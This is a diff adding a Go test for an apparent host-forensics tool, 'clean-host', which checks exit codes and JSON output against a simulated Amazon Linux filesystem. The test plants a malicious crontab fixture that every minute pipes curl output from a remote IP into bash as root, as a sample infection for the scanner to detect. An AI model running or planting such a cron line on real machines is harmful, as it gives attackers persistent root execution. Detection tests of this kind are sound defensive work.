@@ -4,7 +4,9 @@ import (
 	"bufio"
 	"bytes"
 	"encoding/json"
+	"errors"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -75,5 +77,40 @@ func TestBadFlags(t *testing.T) {
 	}
 	if err := run([]string{"-root", filepath.Join(t.TempDir(), "missing")}, &out, &errb); err == nil {
 		t.Error("missing root accepted")
+	}
+}
+
+// The built binary: errors go to stderr with a non-zero exit; -json
+// output is one JSON document per line.
+func TestBinary(t *testing.T) {
+	bin := filepath.Join(t.TempDir(), "clean-host")
+	if out, err := exec.Command("go", "build", "-o", bin, ".").CombinedOutput(); err != nil {
+		t.Fatalf("build: %v\n%s", err, out)
+	}
+	var stdout, stderr bytes.Buffer
+	cmd := exec.Command(bin, "-root", filepath.Join(t.TempDir(), "missing"))
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	err := cmd.Run()
+	var ee *exec.ExitError
+	if !errors.As(err, &ee) || ee.ExitCode() != 1 || !strings.HasPrefix(stderr.String(), "clean-host: ") || stdout.Len() != 0 {
+		t.Errorf("missing root: err=%v stderr=%q stdout=%q", err, stderr.String(), stdout.String())
+	}
+	dir := t.TempDir()
+	if err := hosttest.Write(dir, hosttest.AmazonLinux2023().Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | bash\n", hosttest.InfectionTime)); err != nil {
+		t.Fatal(err)
+	}
+	out, err := exec.Command(bin, "-root", dir, "-json", "-all").Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
+	for _, l := range lines {
+		var f persist.Finding
+		if err := json.Unmarshal([]byte(l), &f); err != nil || f.Path == "" || !strings.HasPrefix(f.Path, "/") || strings.HasPrefix(f.Path, dir) {
+			t.Errorf("line %q: %v", l, err)
+		}
+	}
+	if len(lines) < 3 {
+		t.Errorf("only %d findings with -all", len(lines))
 	}
 }
